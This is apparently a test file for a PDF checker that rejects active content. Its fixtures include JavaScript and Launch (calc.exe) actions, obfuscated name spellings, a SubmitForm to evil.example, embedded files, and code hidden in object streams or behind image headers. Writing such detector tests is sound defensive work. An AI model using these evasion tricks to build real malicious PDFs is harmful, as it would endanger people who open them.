import { deflateSync } from "node:zlib";
import PDFDocument from "pdfkit";
import sharp from "sharp";
import { expect, test } from "vitest";
import { problemOf } from "./check-pdf.ts";

const pdf = (...parts: (string | Buffer)[]) =>
  Buffer.concat([
    Buffer.from("%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"),
    ...parts.map((part) => Buffer.from(part)),
    Buffer.from("\ntrailer<</Root 1 0 R>>\n%%EOF\n"),
  ]);
const stream = (dictionary: string, content: Buffer, end = "\n") =>
  Buffer.concat([
    Buffer.from(`5 0 obj<<${dictionary}>>stream${end}`),
    content,
    Buffer.from("\nendstream endobj"),
  ]);

test("a document as programs write it is kept", async () => {
  const document = new PDFDocument();
  document.text("Extrait du registre").text("https://www.rcs.nc", { link: "https://www.rcs.nc" });
  const chunks: Buffer[] = [];
  document.on("data", (chunk: Buffer) => chunks.push(chunk));
  await new Promise<void>((resolve) => {
    document.on("end", () => resolve());
    document.end();
  });
  expect(problemOf(Buffer.concat(chunks))).toBeUndefined();
});

test("one with pictures, letters and a table of contents is kept, packed or not", async () => {
  const photo = await sharp({ create: { width: 40, height: 30, channels: 3, background: "#345678" } });
  const [jpeg, png] = await Promise.all([
    photo.clone().jpeg().toBuffer(),
    photo.clone().png({ palette: true }).toBuffer(),
  ]);
  for (const compress of [true, false]) {
    const document = new PDFDocument({ compress, info: { Title: "Extrait" } });
    document
      .font("node_modules/pdfjs-dist/standard_fonts/LiberationSans-Regular.ttf")
      .text("Extrait")
      .image(jpeg)
      .image(png);
    document.outline.addItem("Première partie");
    const chunks: Buffer[] = [];
    document.on("data", (chunk: Buffer) => chunks.push(chunk));
    await new Promise<void>((resolve) => {
      document.on("end", () => resolve());
      document.end();
    });
    const written = Buffer.concat(chunks);
    expect(written.includes("/First")).toBe(true);
    expect(problemOf(written)).toBeUndefined();
  }
});

test("what looks like a name inside a picture is none", () => {
  expect(problemOf(pdf(stream("/Length 9", Buffer.from("\x01/JS \x02 /3D"))))).toBeUndefined();
  const scan = stream("/Subtype/Image/Filter/DCTDecode", Buffer.from("ffd8ffe0", "hex"));
  expect(problemOf(pdf(scan, stream("/Type/ObjStm", deflateSync("<</Type/Page>>"))))).toBeUndefined();
  const packed = stream(
    "/Type/ObjStm/Filter/FlateDecode",
    deflateSync("<</Type/Page/Contents 3 0 R>>"),
    "\r\n",
  );
  expect(problemOf(pdf(packed))).toBeUndefined();
});

test("what stands beside compressed objects is as it says", () => {
  const objects = stream("/Type/ObjStm/N 1/First 4/Filter/FlateDecode", deflateSync("1 0 <</Type/Page>>"));
  const jpeg = Buffer.from("ffd8ffe000104a46", "hex");
  for (const part of [
    stream("/Type/XObject/Subtype/Image/Width 8/ColorSpace[/ICCBased 8 0 R]/Filter/DCTDecode/Length 8", jpeg),
    stream("/Subtype/Image/DecodeParms<</ColorTransform 0>>/Filter[/DCTDecode]", jpeg),
    stream("/Subtype/Image/Filter/JPXDecode", Buffer.from("0000000c6a5020200d0a870a", "hex")),
    stream("/Subtype/Image/Filter[/FlateDecode/DCTDecode]", deflateSync(jpeg)),
    stream(
      "/Subtype/Image/ColorSpace[/Indexed/DeviceRGB 1(ab\\)cde)]/Filter/FlateDecode/DecodeParms<</Predictor 15>>",
      deflateSync("a"),
    ),
    stream("/Type/Metadata/Subtype/XML/Length 9", Buffer.from("<x:xmpmeta>")),
    stream(
      "/Type/XRef/ID[<0a><0b>]/DecodeParms<</Columns 5/Predictor 12>>/Filter/FlateDecode",
      deflateSync("a"),
    ),
    stream("/Subtype/Form/Resources<</Font<</Helv 5 0 R>>>>/Length 2", Buffer.from("q Q")),
    stream("/Length1 4/Filter [ /FlateDecode ]", deflateSync("font")),
  ]) {
    expect(problemOf(pdf(objects, part)), part.toString("latin1")).toBeUndefined();
  }
});

const runs = (head: string, words: string) =>
  Buffer.concat([
    Buffer.from(head, "hex"),
    Buffer.from([words.length - 1]),
    Buffer.from(words),
    Buffer.from([128]),
  ]);

test.for([
  ["behind three zeros", stream("/Type/ObjStm/Filter/RunLengthDecode", runs("00000000", "</S/JavaScr"))],
  [
    "behind the head of a JPEG",
    stream("/Type/ObjStm/Filter/RunLengthDecode", runs("ffd8ffe0", "<</S/JavaSc")),
  ],
  [
    "that say they are a picture",
    stream("/Type/ObjStm/Subtype/Image/Filter/DCTDecode", Buffer.from("ffd8ffe0", "hex")),
  ],
  ["with a filter of another name", stream("/Type/ObjStm/Subtype/Image/Filter/RL", runs("ffd8ffe0", "x"))],
  ["with the filter's short name", stream("/Type/ObjStm/F/RL", runs("ffd8ffe0", "x"))],
  ["with a filter that stands elsewhere", stream("/Type/ObjStm/Filter 9 0 R", deflateSync("a"))],
  ["without their type", [stream("/N 1/First 4/Filter/RunLengthDecode", runs("ffd8ffe0", "x"))]],
  ["packed in two ways", stream("/Type/ObjStm/Filter[/FlateDecode/ASCIIHexDecode]", deflateSync("2f4a61>"))],
  [
    "as differences between rows",
    stream("/Type/ObjStm/Filter/FlateDecode/DecodeParms<</Predictor 12>>", deflateSync("a")),
  ],
  [
    "in a dictionary that holds the words of a picture's",
    stream(
      "/Type/ObjStm/Filter/RunLengthDecode/Pad(6 0 obj<</Subtype/Image/Filter/DCTDecode>>)",
      runs("ffd8ffe0", "x"),
    ),
  ],
  [
    "in a dictionary behind one that a comment ends",
    stream(
      "/Type/ObjStm/Filter/RunLengthDecode %6 0 obj<</Subtype/Image/Filter/DCTDecode\n",
      runs("ffd8ffe0", "x"),
    ),
  ],
  [
    "that say they are a picture of another kind",
    `${stream("/Subtype/Image/Filter/RL", runs("ffd8ffe0", "x")).toString("latin1")} /XRef`,
  ],
  ["behind words without a line's end", Buffer.from("5 0 obj<</Type/ObjStm/Filter/RL>>stream x\n")],
] as const)("compressed objects %s are no PDF", ([, part]) => {
  expect(problemOf(pdf(...[part].flat()))).toBe("not a PDF");
});

test("code is found behind a carriage return alone, and in what is packed twice", () => {
  const code = deflateSync("<</S/JavaScript/JS(1)>>");
  expect(problemOf(pdf(stream("/Type/ObjStm/Filter/FlateDecode", code, "\r")))).toBe("it acts");
  expect(problemOf(pdf(stream("/Type/ObjStm/Filter[/Fl/Fl]", deflateSync(code))))).toBe("it acts");
  expect(problemOf(pdf(stream("/N 1/First 4/Filter/FlateDecode", code, " \r\n")))).toBe("it acts");
});

test.for([
  ["code", "3 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj"],
  ["code under another spelling", "3 0 obj<</S/J#61vaScript/J#53(app.alert(1))>>endobj"],
  ["a program to start", "3 0 obj<</S/Launch/F(calc.exe)>>endobj"],
  ["a file inside", "3 0 obj<</Names<</EmbeddedFiles 4 0 R>>>>endobj"],
  ["a form that sends", "3 0 obj<</S/SubmitForm/F(https://evil.example)>>endobj"],
  ["a protection", "trailer<</Encrypt 9 0 R>>"],
  ["code among compressed objects", stream("/Type/ObjStm", deflateSync("<</S/JavaScript/JS(1)>>"))],
  ["the same, under another spelling", stream("/Type/Obj#53tm", deflateSync("<</S/JavaScript/JS(1)>>"))],
  [
    "code behind a picture",
    Buffer.concat([stream("/Length 2", Buffer.from("ab")), Buffer.from("<</S/JavaScript>>")]),
  ],
  [
    "code between a text that says it is a part, and the end of one",
    "4 0 obj(>>\nstream\n)endobj <</S/JavaScript>> endstream",
  ],
  [
    "code in a part whose dictionary is long",
    stream(`/Type/ObjStm/Pad(${"x".repeat(9_000)})`, deflateSync("<</S/JavaScript>>")),
  ],
] as const)("%s is found", ([, part]) => {
  expect(problemOf(pdf(part))).toBe("it acts");
});

test.for([
  ["nothing", Buffer.alloc(0)],
  ["a head alone", Buffer.from("%PDF-1.4\n")],
  ["another beginning", Buffer.concat([Buffer.from("GIF89a"), pdf()])],
  [
    "compressed objects behind a text that says it is a part",
    pdf("4 0 obj(>>\nstream\n)endobj", stream("/Type/ObjStm", deflateSync("<</S/JavaScript>>"))),
  ],
  ["compressed objects that are none", pdf(stream("/Type/ObjStm", Buffer.from("not compressed")))],
  [
    "compressed objects without end",
    pdf(stream("/Type/ObjStm", deflateSync(Buffer.alloc(65 * 1024 * 1024)))),
  ],
] as const)("%s is no PDF", ([, bytes]) => {
  expect(problemOf(bytes)).toBe("not a PDF");
});
